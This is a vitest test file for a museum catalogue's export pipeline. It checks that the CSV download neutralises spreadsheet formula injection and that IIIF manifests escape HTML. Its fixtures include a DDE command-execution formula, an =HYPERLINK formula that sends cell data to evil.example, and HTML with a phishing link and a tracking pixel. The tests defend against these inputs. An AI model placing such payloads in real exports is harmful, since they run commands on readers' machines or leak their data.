import { mkdtemp, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { catalogueFiles } from '../../pipeline/catalogue/data.ts';
import { buildCatalogueData } from '../../pipeline/catalogue/index.ts';
import { rightsOf } from '../../pipeline/catalogue/rights.ts';
import { memoryLogger } from '../../pipeline/log.ts';
import { defaultParams } from '../../pipeline/params.ts';
import { workspace } from '../../pipeline/paths.ts';
import { type FixtureObject, writeFixture } from './fixture.ts';

/*
 * What the collection's export says reaches other people's software: the CSV download is opened in
 * spreadsheets, the IIIF manifests in other institutions' viewers. Neither may run what a title says.
 */

let dir: string;
let csv: Record<string, string>[];
/** The CSV download's bytes, and its columns as a reader that skips a byte-order mark reads them. */
let csvBytes: Buffer;
let csvColumns: string[];
const manifest = async (slug: string) =>
  JSON.parse(
    await readFile(path.join(catalogueFiles(workspace(dir)).publicDir, 'iiif', slug, 'manifest.json'), 'utf8'),
  );

const HTML = '<p>Gift. <a href="https://phish.example/login">Sign in</a><img src="https://tracker.example/px.png"></p>';

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'vitrine-download-safety-'));
  const image = path.join(dir, 'photo.png');
  await sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 120, g: 90, b: 60 } } })
    .png()
    .toFile(image);
  const objects: FixtureObject[] = [
    {
      id: 'A1',
      title: "-2+3+cmd|' /C calc'!A0",
      maker: ' =HYPERLINK("https://evil.example/?"&A2,"click")',
      label: 'vase',
      image,
    },
    { id: 'A2', title: '＝1+1', maker: '\n=1+1', medium: '-1+1', label: 'vase', image },
    { id: 'A3', title: '-', maker: '-500', medium: 'Bronze - cast', label: 'coin', image, description: HTML },
    {
      id: 'A4',
      // Tags that are not formatting: the catalogue keeps such a field as written (plain-text.ts).
      title: '<blink>Bold</blink>',
      maker: '<marquee>Workshop</marquee>',
      label: 'coin',
      image,
      description: 'Plain text, 2 < 3 > 1',
    },
    { id: 'A5', title: 'Vista de Valparaíso', maker: 'Anónimo', label: 'coin', image, rights: 'CC BY 4.0' },
    { id: 'A6', title: 'Lamp', label: 'vase', image, rights: 'Ask the registrar' },
  ];
  await writeFixture({ root: dir, objects, labels: ['coin', 'vase'] });
  await buildCatalogueData({ ws: workspace(dir), params: defaultParams(), log: memoryLogger() });
  csvBytes = await readFile(path.join(catalogueFiles(workspace(dir)).publicDir, 'data', 'catalogue.csv'));
  // As a spreadsheet or csv-parse with bom: true reads it: the byte-order mark is not part of the first column name.
  csv = parse(csvBytes, { columns: (header: string[]) => (csvColumns = header), bom: true }) as Record<
    string,
    string
  >[];
});

afterAll(() => rm(dir, { recursive: true, force: true }));

describe('the CSV download in a spreadsheet', () => {
  const row = (id: string) => csv.find((r) => r.id === id)!;

  it('quotes every cell a spreadsheet would read as a formula, - and leading spaces included', () => {
    expect(row('A1').title).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(row('A1').maker).toBe('\' =HYPERLINK("https://evil.example/?"&A2,"click")');
    expect(row('A2').title).toBe("'＝1+1");
    expect(row('A2').maker).toBe("'\n=1+1");
    expect(row('A2').medium).toBe("'-1+1");
  });

  // The museum's web editor: Excel on Windows read "Valparaíso" as "ValparaÃ­so" (it takes a CSV without a byte-order
  // mark for the computer's own code page).
  it('starts with the UTF-8 byte-order mark, so that Excel reads accented titles right', async () => {
    expect([...csvBytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csvColumns[0]).toBe('id');
    expect(row('A5')).toMatchObject({ title: 'Vista de Valparaíso', maker: 'Anónimo' });
    // Only the CSV: JSON has no byte-order mark (JSON.parse fails on one).
    const json = await readFile(path.join(catalogueFiles(workspace(dir)).publicDir, 'data', 'catalogue.json'));
    expect(json[0]).toBe('{'.charCodeAt(0));
  });

  it('leaves plain text and numbers as they are', () => {
    expect(row('A3').title).toBe('-');
    expect(row('A3').maker).toBe('-500');
    expect(row('A3').medium).toBe('Bronze - cast');
  });
});

describe('IIIF manifests in other viewers', () => {
  it('never hands a viewer HTML from the export: a value that looks like HTML is escaped text', async () => {
    const m = await manifest('a3');
    const summary = m.summary.en[0] as string;
    expect(summary).not.toContain('<a ');
    expect(summary).not.toContain('<img');
    // IIIF: a value starting with < and ending with > is HTML; the text is kept, escaped, in one span.
    expect(summary).toBe(
      `<span>${HTML.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')}</span>`,
    );
    // A label is never HTML in IIIF: viewers show it as it is, so it keeps the export's text.
    expect((await manifest('a4')).label.en[0]).toBe('<blink>Bold</blink>');
  });

  it('escapes a metadata value that looks like HTML, as the summary', async () => {
    const maker = (await manifest('a4')).metadata.find((m: { label: { en: string[] } }) => m.label.en[0] === 'Maker');
    expect(maker.value.en[0]).toBe('<span>&lt;marquee&gt;Workshop&lt;/marquee&gt;</span>');
  });

  it('leaves text that is not read as HTML as it was', async () => {
    expect((await manifest('a4')).summary.en[0]).toBe('Plain text, 2 < 3 > 1');
    expect((await manifest('a1')).label.en[0]).toBe("-2+3+cmd|' /C calc'!A0");
  });
});

describe('the data package', () => {
  // An outside tester: data/datapackage.json had no licenses, though every object's rights are read as a standard
  // statement. It names those statements, most objects' first; a rights text not recognised names none.
  it('gives the licences of the collection’s objects, from their rights', async () => {
    const pkg = JSON.parse(
      await readFile(path.join(catalogueFiles(workspace(dir)).publicDir, 'data', 'datapackage.json'), 'utf8'),
    ) as { licenses?: { path: string; title: string }[]; description: string };
    const [pd, by] = [rightsOf('Public domain'), rightsOf('CC BY 4.0')];
    expect(pkg.licenses).toEqual([
      { path: pd.uri, title: pd.label },
      { path: by.uri, title: by.label },
    ]);
    expect(pkg.description).toMatch(/licenses/);
  });
});
